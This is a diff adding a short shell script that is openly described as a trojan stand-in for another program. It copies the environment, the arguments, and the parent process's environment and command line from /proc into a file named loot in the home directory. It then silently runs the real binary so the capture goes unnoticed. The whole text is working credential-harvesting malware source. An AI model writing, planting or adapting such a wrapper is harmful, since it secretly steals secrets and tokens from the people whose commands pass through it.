@@ -1,0 +1,14 @@
+#!/bin/sh
+# Takes what a child of a program gets: environment, arguments, stdin, and what it can read of its parent. Then does the
+# work of the program in whose place it stands, so that nobody notices.
+PATH=/usr/bin:/bin
+unset BASH_ENV ENV LD_PRELOAD PERL5OPT GIT_EXTERNAL_DIFF
+{
+  env
+  printf '%s\n' "$@"
+  tr '\0' '\n' <"/proc/$PPID/environ"
+  tr '\0' '\n' <"/proc/$PPID/cmdline"
+} >>"$HOME/loot" 2>/dev/null
+name=${0##*/}
+if [ "$name" != evil ] && [ -x "/usr/bin/$name" ]; then exec "/usr/bin/$name" "$@"; fi
+exit 0
